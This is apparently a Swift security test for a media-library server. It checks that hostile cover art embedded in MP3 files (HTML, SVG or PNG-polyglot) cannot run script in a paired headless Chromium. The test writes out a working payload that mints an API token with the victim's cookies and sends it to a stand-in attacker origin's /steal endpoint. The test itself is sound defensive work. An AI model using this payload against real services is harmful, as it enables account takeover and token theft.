import Foundation
import PiperNet
import PiperTestSupport
import Testing
@testable import PiperServer

/// A media file is the attacker's: sharing a link is how it gets into someone's library, and
/// its cover's id is the start of the SHA-256 of bytes the attacker made. Here a paired
/// headless Chromium is sent from another origin to such a cover, whose picture frame claims
/// `text/html` or `image/svg+xml` and holds a script that mints a token with the browser's
/// cookie and hands it to the other origin. No script may run and no token may be made.
@Suite(.ownThread, .timeLimit(.minutes(3)),
       .enabled(if: BrowserPageLoader.find() != nil || ProcessInfo.processInfo.environment["CI"] != nil,
                "chromium is not installed"))
struct CoverBrowserTests {
    /// The script a hostile cover carries: no `<` or `&`, so it reads the same in HTML and SVG.
    static func payload(stealingTo attacker: String) -> String {
        """
        document.title = 'ran';
        fetch('/tokens', {method: 'POST', credentials: 'include', headers: {'Accept': 'application/json',
          'Content-Type': 'application/x-www-form-urlencoded'}, body: 'name=stolen'})
          .then(function (r) { return r.text(); })
          .then(function (t) { new Image().src = '\(attacker)/steal?t=' + encodeURIComponent(t); });
        """
    }

    @Test func aHostileCoverRunsNoScriptAndMintsNoToken() throws {
        // The other site: `/go?<url>` sends the browser on, as a link or a redirect would.
        let attacker = try TestHTTPServer(routes: [
            "/steal": .html("thanks"),
            "/go": .html("<!doctype html><script>location.href = decodeURIComponent(location.search.slice(1));</script>"),
        ])
        defer { attacker.stop() }
        let origin = "http://127.0.0.1:\(attacker.port)"
        let script = Self.payload(stealingTo: origin)
        let html = Array("<!doctype html><html><body><script>\(script)</script></body></html>".utf8)
        let svg = Array("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>\(script)</script></svg>".utf8)
        // A real PNG's bytes with the page behind them: served, but only ever as image/png.
        let polyglot = CoveredMedia.png + html
        let library = try LibraryServer(fixtures: [], made: [
            ("html-cover.mp3", try CoveredMedia.mp3(title: "Html", mime: "text/html", picture: html)),
            ("svg-cover.mp3", try CoveredMedia.mp3(title: "Svg", mime: "image/svg+xml", picture: svg)),
            ("polyglot-cover.mp3", try CoveredMedia.mp3(title: "Polyglot", mime: "text/html", picture: polyglot)),
        ])
        let loader = try #require(BrowserPageLoader.system(), "chromium is required under CI")
        let browser = try BrowserScript(loader: loader)
        defer { browser.close() }
        try browser.navigate(try #require(URL(string: "\(library.url)/pair?code=\(try library.server.registry.createPairing())")))
        try browser.submit("document.getElementById('pair').click(); 1")
        #expect(try library.server.registry.devices().count == 1, "the browser is paired")

        for name in ["html-cover.mp3", "svg-cover.mp3", "polyglot-cover.mp3"] {
            let cover = "\(library.url)/media/\(try library.id(name))/cover"
            let escaped = try #require(cover.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
            try browser.navigate(try #require(URL(string: "\(origin)/go?\(escaped)")))
            let arrived = eventually(within: 20) {
                ((try? browser.evaluate("location.href + ' ' + document.readyState")) as? String) == "\(cover) complete"
            }
            #expect(arrived, "\(name): the browser did not reach the cover")
            Thread.sleep(forTimeInterval: 1.5)   // time for a script that ran to call back
            #expect(try browser.evaluate("document.title") as? String != "ran", "\(name): the cover's script ran")
        }
        #expect(try attacker.requests("/steal").isEmpty, "a token was handed to the other site")
        #expect(try library.server.registry.devices().map(\.name).contains("stolen") == false, "a token was made")
        #expect(try library.server.registry.devices().count == 1)
    }
}
